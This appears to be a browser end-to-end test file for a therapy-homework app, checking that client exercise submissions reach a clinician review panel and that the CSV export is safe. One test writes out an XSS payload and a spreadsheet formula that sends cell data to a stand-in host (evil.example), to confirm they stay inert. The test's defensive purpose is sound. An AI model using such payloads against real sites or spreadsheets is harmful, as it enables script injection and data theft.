// The clinician's page end to end: the three client widgets on the demo pages submit through
// the real reference endpoint (real SQLite file), and the demo clinician page shows what
// arrived, under the strict CSP with Trusted Types. Hostile text stays text there, and the
// CSV downloaded from the real button is safe to open in a spreadsheet.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { eventually, launchBrowser, rate, startEndpoint } from './harness.mjs';
import { recordProblems } from './page-problems.mjs';

describe('review panel on the demo clinician page', () => {
  let browser;
  let endpoint;
  let context;
  let violations;

  before(async () => {
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
  });

  beforeEach(async () => {
    endpoint = await startEndpoint();
    context = await browser.newContext({ acceptDownloads: true });
    violations = [];
  });
  afterEach(async () => {
    await context?.close();
    await endpoint?.dispose();
  });

  async function open(path) {
    const page = await context.newPage();
    await recordProblems(page, violations);
    page.on('dialog', (dialog) => {
      violations.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    // The clinician's page needs a sign-in first, through the server's own sign-in page.
    if (path.startsWith('/demo/clinician.html')) await endpoint.signIn(page, path);
    else await page.goto(endpoint.url + path);
    return page;
  }

  const sent = (widget) => widget.getByRole('status').getByText('Sent to your clinician').waitFor();

  it('shows what the three client widgets delivered through the endpoint', async () => {
    // The client arrives through the clinician's link; its access rides in the fragment.
    const fragment = `#link=${encodeURIComponent(await endpoint.link())}`;
    const client = await open(`/${fragment}`);
    await client.getByLabel('Situation: who, what, when, where?').fill('Missed the bus, felt stupid');
    await client.getByRole('button', { name: /Submit/ }).click();
    await sent(client.locator('hw-thought-record'));

    await client.goto(`${endpoint.url}/demo/mood.html${fragment}`);
    await rate(client, 'Mood: how do I feel?', '7');
    await client.getByRole('button', { name: /Submit/ }).click();
    await sent(client.locator('hw-mood-tracker'));

    await client.goto(`${endpoint.url}/demo/experiment.html${fragment}`);
    const experiment = client.locator('hw-behavioural-experiment');
    await client.getByLabel('Target belief: what thought am I testing?').fill('If I speak up, people will laugh');
    await client.getByLabel('Experiment: what will I do?').fill('Ask one question in the Tuesday meeting');
    await client.getByLabel('Prediction: what do I expect will happen?').fill('Someone will laugh');
    await client.getByRole('button', { name: 'I did the experiment: record the outcome' }).click();
    await client.getByLabel('Outcome: what actually happened?').fill('Two people nodded');
    await experiment.getByRole('button', { name: /Submit/ }).click();
    await sent(experiment);
    const records = await endpoint.records();
    assert.equal(records.length, 3);
    assert.deepEqual(await endpoint.writers(), Array(3).fill('client:demo-client-1'), 'each sent through the link');

    const page = await open('/demo/clinician.html');
    const panel = page.locator('hw-review-panel');
    await eventually(async () => (await panel.locator('.row').count()) === 3, 'three rows in the panel');
    const list = panel.locator('[part="list"]');
    await list.getByText('Missed the bus, felt stupid').waitFor();
    await list.getByText('7 of 10').waitFor();
    await list.getByText('If I speak up, people will laugh').waitFor();
    await panel.getByRole('heading', { name: 'Thought record (1)' }).waitFor();
    await panel.getByRole('heading', { name: 'Mood check-in (1)' }).waitFor();
    await panel.getByRole('heading', { name: 'Behavioural experiment (1)' }).waitFor();
    // Every assignment the host listed received its entry.
    const states = await panel.locator('[part="assignments"] tbody td:nth-child(2)').allTextContents();
    assert.deepEqual(
      states.map((s) => s.trim()),
      ['Completed', 'Completed', 'Completed'],
    );
    // The clinician opens the experiment with the keyboard.
    await list.getByText('If I speak up, people will laugh').click();
    await panel.locator('dialog[open]').getByText('Two people nodded').waitFor();
    await page.keyboard.press('Escape');
    assert.deepEqual(violations, []);
  });

  it('renders hostile text inert under the strict CSP and downloads a neutralised CSV', async () => {
    const hostile = '<script>alert(1)</script><img src=x onerror="alert(2)">';
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const now = new Date().toISOString();
    const entry = {
      id: randomUUID(),
      exercise: 'thought-record',
      schema: 'thought-record/1',
      assignmentId: 'demo-assignment-1',
      subject: 'demo-client-1',
      status: 'completed',
      locale: 'en',
      createdAt: now,
      updatedAt: now,
      completedAt: now,
      data: {
        columns: 3,
        situation: formula,
        moods: [{ id: 'm', name: hostile, intensity: 70 }],
        thoughts: [{ id: 't', text: '+1-1', hot: true }],
        distortions: [],
        evidenceFor: '',
        evidenceAgainst: '',
        balancedThought: '',
      },
      engagement: {
        activeSeconds: 30,
        sittings: 1,
        edits: 3,
        fieldsFilled: 3,
        fieldsOffered: 3,
        selfReview: { obstacles: [], reflection: hostile },
      },
    };
    const response = await fetch(`${endpoint.url}/api/homework`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'Idempotency-Key': entry.id },
      body: JSON.stringify(entry),
    });
    assert.equal(response.status, 201);

    const page = await open('/demo/clinician.html');
    const panel = page.locator('hw-review-panel');
    await panel.locator('.row').first().waitFor();
    // The reflection is shown first, as text.
    await panel.locator('[part="self-review"]').getByText(hostile).waitFor();
    await panel.locator('.row').first().click();
    await panel.locator('dialog[open]').getByText(formula).first().waitFor();
    const elements = await panel.evaluate((el) => el.shadowRoot.querySelectorAll('script, img').length);
    assert.equal(elements, 0);
    await page.keyboard.press('Escape');

    const [download] = await Promise.all([
      page.waitForEvent('download'),
      panel.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    assert.match(download.suggestedFilename(), /^homework-entries-\d{4}-\d{2}-\d{2}\.csv$/);
    const csv = await readFile(await download.path(), 'utf8');
    const [header, row] = csv.replace(/^\uFEFF/, '').split('\r\n');
    assert.ok(header.startsWith('id,exercise,schema,readable,'));
    assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`), row);
    assert.ok(!/(^|,)"?[=+\-@]/.test(row), `a cell starts like a formula: ${row}`);
    assert.deepEqual(violations, []);
  });
});
